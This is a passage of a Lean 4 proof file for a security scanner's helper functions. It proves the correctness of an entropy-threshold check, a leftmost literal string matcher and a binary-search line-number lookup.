    -(((c : ℝ) / (n : ℝ)) * Real.logb 2 ((c : ℝ) / (n : ℝ)))).sum with hSd
  set P : ℝ := (counts.map fun c : ℕ => ((c : ℝ)) ^ (den * c)).prod with hPd
  have hnR : (0:ℝ) < (n : ℝ) := by
    have : 0 < n := Nat.pos_of_ne_zero hn
    exact_mod_cast this
  have hdenR : (0:ℝ) < (den : ℝ) := by
    have : 0 < den := Nat.pos_of_ne_zero hden
    exact_mod_cast this
  have hsumc : counts.sum = n := by
    rw [hcountsd, charCounts, hnd]
    exact List.sum_map_count_dedup_eq_length value
  have hposc : ∀ c ∈ counts, 0 < c := by
    intro c hc
    rw [hcountsd, charCounts] at hc
    obtain ⟨x, hx, rfl⟩ := List.mem_map.mp hc
    exact List.count_pos_iff.mpr (List.mem_dedup.mp hx)
  have hP : (0:ℝ) < P := by
    rw [hPd]
    apply List.prod_pos
    intro x hx
    obtain ⟨c0, hc0, rfl⟩ := List.mem_map.mp hx
    have : (0:ℝ) < (c0:ℝ) := by exact_mod_cast hposc c0 hc0
    positivity
  have key : ((den : ℝ) * (n : ℝ)) * S =
      ((den : ℝ) * (n : ℝ)) * Real.logb 2 (n : ℝ) - Real.logb 2 P := by
    rw [hPd, logb_prod_pow den counts hposc]
    rw [hSd, ← List.sum_map_mul_left]
    have hmapeq :
        counts.map (fun c : ℕ => ((den : ℝ) * (n : ℝ)) *
          -(((c : ℝ) / (n : ℝ)) * Real.logb 2 ((c : ℝ) / (n : ℝ))))
        = counts.map (fun c : ℕ =>
            (den : ℝ) * (c : ℝ) * Real.logb 2 (n : ℝ) -
              (den : ℝ) * (c : ℝ) * Real.logb 2 (c : ℝ)) := by
      apply List.map_congr_left
      intro c hc
      have hcpos : (0:ℝ) < (c:ℝ) := by exact_mod_cast hposc c hc
      rw [Real.logb_div (ne_of_gt hcpos) (ne_of_gt hnR)]
      field_simp
      ring
    rw [hmapeq, sum_map_sub_real]
    have h1 : (counts.map fun c : ℕ => (den : ℝ) * (c : ℝ) * Real.logb 2 (n : ℝ)).sum
        = ((den : ℝ) * (n : ℝ)) * Real.logb 2 (n : ℝ) := by
      rw [List.sum_map_mul_right]
      congr 1
      have h2 : (counts.map fun c : ℕ => (den : ℝ) * (c : ℝ)).sum
          = (den : ℝ) * (counts.map fun c : ℕ => (c : ℝ)).sum :=
        List.sum_map_mul_left counts (fun c : ℕ => (c : ℝ)) (den : ℝ)
      rw [h2]
      congr 1
      rw [show counts.map (fun c : ℕ => (c : ℝ)) = counts.map Nat.cast from rfl,
        ← Nat.cast_list_sum, hsumc]
    rw [h1]
  -- unfold the decision procedure and move to ℝ
  simp only [entropyGe, if_neg hn, decide_eq_true_eq]
  rw [← @Nat.cast_le ℝ _ _ _]
  push_cast
  rw [← hnd, ← hcountsd]
  simp only [List.map_map]
  rw [show (Nat.cast ∘ fun c : ℕ => c ^ (den * c) : ℕ → ℝ) =
      (fun c : ℕ => ((c : ℝ)) ^ (den * c)) from by
    funext c
    simp [Nat.cast_pow]]
  rw [← hPd]
  rw [show ((2:ℝ) ^ (num * n) * P ≤ (n:ℝ) ^ (den * n)) ↔
      Real.logb 2 ((2:ℝ) ^ (num * n) * P) ≤ Real.logb 2 ((n:ℝ) ^ (den * n)) from
    (Real.logb_le_logb one_lt_two (by positivity) (by positivity)).symm]
  rw [Real.logb_mul (by positivity) (ne_of_gt hP), Real.logb_pow, Real.logb_pow,
    Real.logb_self_eq_one one_lt_two]
  have hfin : ((den * n : ℕ) : ℝ) * Real.logb 2 (n : ℝ)
      = ((den : ℝ) * (n : ℝ)) * S + Real.logb 2 P := by
    push_cast
    linarith [key]
  rw [hfin]
  constructor
  · intro h
    have h2 : (num : ℝ) * (n : ℝ) ≤ (den : ℝ) * (n : ℝ) * S := by
      have : ((num * n : ℕ) : ℝ) = (num : ℝ) * (n : ℝ) := by push_cast; ring
      linarith [h, this]
    rw [div_le_iff₀ hdenR]
    nlinarith [h2, hnR]
  · intro h
    rw [div_le_iff₀ hdenR] at h
    have h2 : (num : ℝ) * (n : ℝ) ≤ (den : ℝ) * (n : ℝ) * S := by
      nlinarith [h, hnR]
    have : ((num * n : ℕ) : ℝ) = (num : ℝ) * (n : ℝ) := by push_cast; ring
    linarith [h2]

/-! ## The literal matcher implements leftmost-match search

These lemmas justify using `litFind` as the concrete instance of the host
regex engine for literal sources: it reports exactly the leftmost
occurrence at or after the queried index, and fails exactly when there is
none — the `exec` semantics of a `g`-flagged literal regex. -/

theorem litFind_none_iff (pat s : List Char) (i : Nat) :
    litFind pat s i = none ↔
      ∀ k, i ≤ k → k ≤ s.length → litMatchAt pat s k = false := by
  unfold litFind
  cases hf : (List.range (s.length + 1)).find?
      (fun j => decide (i ≤ j) && litMatchAt pat s j) with
  | none =>
    simp only [true_iff]
    rw [List.find?_eq_none] at hf
    intro k hik hks
    have := hf k (List.mem_range.mpr (by omega))
    simp only [Bool.and_eq_true, decide_eq_true_eq, not_and] at this
    cases h2 : litMatchAt pat s k
    · rfl
    · exact absurd h2 (by simp [this hik])
  | some k =>
    refine iff_of_false (by simp) ?_
    intro hcontra
    have hmem := List.mem_of_find?_eq_some hf
    have hp := List.find?_some hf
    simp only [Bool.and_eq_true, decide_eq_true_eq] at hp
    have hk := hcontra k hp.1 (Nat.le_of_lt_succ (List.mem_range.mp hmem))
    rw [hp.2] at hk
    cases hk

theorem litFind_leftmost (pat s : List Char) (i j len : Nat)
    (h : litFind pat s i = some (j, len)) :
    len = pat.length ∧ i ≤ j ∧ litMatchAt pat s j = true ∧
      ∀ k, i ≤ k → k < j → litMatchAt pat s k = false := by
  unfold litFind at h
  cases hf : (List.range (s.length + 1)).find?
      (fun j => decide (i ≤ j) && litMatchAt pat s j) with
  | none => rw [hf] at h; cases h
  | some k =>
    rw [hf] at h
    cases h
    obtain ⟨hp, as, bs, heq, hall⟩ := List.find?_eq_some.mp hf
    simp only [Bool.and_eq_true, decide_eq_true_eq] at hp
    refine ⟨rfl, hp.1, hp.2, ?_⟩
    have hlen : as.length < s.length + 1 := by
      have := congrArg List.length heq
      simp only [List.length_range, List.length_append, List.length_cons] at this
      omega
    have hkpos : j = as.length := by
      have h1 : (List.range (s.length + 1))[as.length]? = some as.length := by
        simp [List.getElem?_range, hlen]
      rw [heq, List.getElem?_append_right (Nat.le_refl as.length)] at h1
      simp only [Nat.sub_self, List.getElem?_cons_zero, Option.some.injEq] at h1
      omega
    intro k2 hik2 hk2j
    have hk2mem : k2 ∈ as := by
      have h1 : (List.range (s.length + 1))[k2]? = some k2 :=
        List.getElem?_range (by omega)
      have h2 : k2 < as.length := by omega
      rw [heq, List.getElem?_append_left h2] at h1
      exact List.getElem?_mem h1
    have := hall k2 hk2mem
    simp only [Bool.not_eq_eq_eq_not, Bool.not_true, Bool.and_eq_false_iff,
      decide_eq_false_iff_not] at this
    rcases this with h1 | h2
    · omega
    · exact h2

/-! ## The binary search of `indexToLine` is correct

`indexToLine` embeds the JS binary search over the line-start offsets
(`buildLineIndex`).  We prove that for any content and position it returns
exactly the number of line-start offsets that are `≤ position` — the 1-based
line number of the position, since line `k` starts at the `k`-th offset.
The `Math.max(1, ·)` guard is shown redundant for indices produced by
`buildLineIndex` (offset `0` is always counted). -/

theorem countP_eq_of_partition (pos : ℕ) :
    ∀ (l : List ℕ) (b : ℕ), b ≤ l.length →
      (∀ k, k < b → l.getD k 0 ≤ pos) →
      (∀ k, b ≤ k → k < l.length → pos < l.getD k 0) →
      l.countP (fun e => decide (e ≤ pos)) = b := by
  intro l
  induction l with
  | nil =>
    intro b hb _ _
    simp at hb
    simp [hb]
  | cons a t ih =>
    intro b hb h1 h2
    cases b with
    | zero =>
      have ha : pos < a := by simpa using h2 0 (Nat.le_refl 0) (by simp)
      rw [List.countP_cons_of_neg _ _ (by simp; omega)]
      exact ih 0 (by omega) (by omega)
        (fun k _ hk => by simpa using h2 (k + 1) (by omega) (by simpa using hk))
    | succ b' =>
      have ha : a ≤ pos := by simpa using h1 0 (by omega)
      rw [List.countP_cons_of_pos _ _ (by simpa using ha)]
      rw [ih b' (by simpa using hb)
        (fun k hk => by simpa using h1 (k + 1) (by omega))
        (fun k hk hlen => by simpa using h2 (k + 1) (by omega) (by simpa using hlen))]

theorem indexToLineAux_eq (l : List ℕ) (pos : ℕ)
    (hsort : l.Pairwise (· < ·)) :
    ∀ (fuel : ℕ) (low high : Int),
      0 ≤ low → high < (l.length : Int) → low ≤ high + 1 →
      (∀ k : ℕ, (k : Int) < low → l.getD k 0 ≤ pos) →
      (∀ k : ℕ, high < (k : Int) → k < l.length → pos < l.getD k 0) →
      (high + 1 - low).toNat ≤ fuel →
      indexToLineAux l pos fuel low high =
        (l.countP (fun e => decide (e ≤ pos)) : Int) := by
  intro fuel
  induction fuel with
  | zero =>
    intro low high hlow hhigh hlh h1 h2 hfuel
    simp only [indexToLineAux]
    have : l.countP (fun e => decide (e ≤ pos)) = low.toNat := by
      apply countP_eq_of_partition pos l low.toNat (by omega)
      · intro k hk
        exact h1 k (by omega)
      · intro k hk hklen
        exact h2 k (by omega) hklen
    rw [this]
    omega
  | succ fuel ih =>
    intro low high hlow hhigh hlh h1 h2 hfuel
    simp only [indexToLineAux]
    by_cases hle : low ≤ high
    · rw [if_pos hle]
      have hmb : low ≤ (low + high) / 2 ∧ (low + high) / 2 ≤ high := by omega
      have hmidlen : ((low + high) / 2).toNat < l.length := by omega
      by_cases hcmp : l.getD ((low + high) / 2).toNat 0 ≤ pos
      · rw [if_pos hcmp]
        apply ih ((low + high) / 2 + 1) high (by omega) hhigh (by omega) ?_ h2 (by omega)
        intro k hk
        rcases Nat.lt_or_ge k ((low + high) / 2).toNat with hlt | hge
        · have hklen : k < l.length := by omega
          have := (List.pairwise_iff_getElem.mp hsort) k (((low + high) / 2).toNat)
            hklen hmidlen hlt
          rw [List.getD_eq_getElem l 0 hklen]
          rw [List.getD_eq_getElem l 0 hmidlen] at hcmp
          omega
        · have : k = ((low + high) / 2).toNat := by omega
          rw [this]
          exact hcmp
      · rw [if_neg hcmp]
        apply ih low ((low + high) / 2 - 1) hlow (by omega) (by omega) h1 ?_ (by omega)
        intro k hk hklen
        rcases Nat.lt_or_ge (((low + high) / 2).toNat) k with hlt | hge
        · have := (List.pairwise_iff_getElem.mp hsort) (((low + high) / 2).toNat) k
            hmidlen hklen hlt
          rw [List.getD_eq_getElem l 0 hklen]
          rw [List.getD_eq_getElem l 0 hmidlen] at hcmp
          omega
        · have : k = ((low + high) / 2).toNat := by omega
          rw [this]
          omega
    · rw [if_neg hle]
      have : l.countP (fun e => decide (e ≤ pos)) = low.toNat := by
        apply countP_eq_of_partition pos l low.toNat (by omega)
        · intro k hk
          exact h1 k (by omega)
        · intro k hk hklen
          exact h2 k (by omega) hklen
      rw [this]
      omega

theorem buildLineIndex_sorted (content : List Char) :
    (buildLineIndex content).Pairwise (· < ·) := by
  unfold buildLineIndex
  refine List.Pairwise.cons ?_ ?_
  · intro b hb
    rw [List.mem_filterMap] at hb
    obtain ⟨i, _, hi⟩ := hb
    by_cases hnl : content.get? i = some '\n'
    · rw [if_pos hnl] at hi
      simp only [Option.some.injEq] at hi
      omega
    · rw [if_neg hnl] at hi
      exact absurd hi (by simp)
  · rw [List.pairwise_filterMap]
    refine List.Pairwise.imp ?_ (List.pairwise_lt_range content.length)
    intro i j hij x hx y hy
    by_cases hni : content.get? i = some '\n'
    · by_cases hnj : content.get? j = some '\n'
      · rw [if_pos hni] at hx
        rw [if_pos hnj] at hy
        simp only [Option.mem_def, Option.some.injEq] at hx hy
        omega
      · rw [if_neg hnj] at hy
        exact absurd hy (by simp)
    · rw [if_neg hni] at hx
      exact absurd hx (by simp)

theorem indexToLine_eq_count (content : List Char) (pos : Nat) :
    indexToLine (buildLineIndex content) pos =
      (buildLineIndex content).countP (fun e => decide (e ≤ pos)) := by
  have hsort := buildLineIndex_sorted content
  have hlen : 1 ≤ (buildLineIndex content).length := by
    unfold buildLineIndex
    simp
  have haux := indexToLineAux_eq (buildLineIndex content) pos hsort
    ((buildLineIndex content).length + 1) 0 (((buildLineIndex content).length : Int) - 1)
    (by omega) (by omega) (by omega)
    (fun k hk => absurd hk (by omega))
    (fun k hk hklen => absurd hk (by omega))
    (by omega)
  unfold indexToLine
  rw [haux]
  have hcount : 1 ≤ (buildLineIndex content).countP (fun e => decide (e ≤ pos)) := by
    unfold buildLineIndex
    rw [List.countP_cons_of_pos _ _ (by simp)]
    omega
  omega

end SecurityScanner
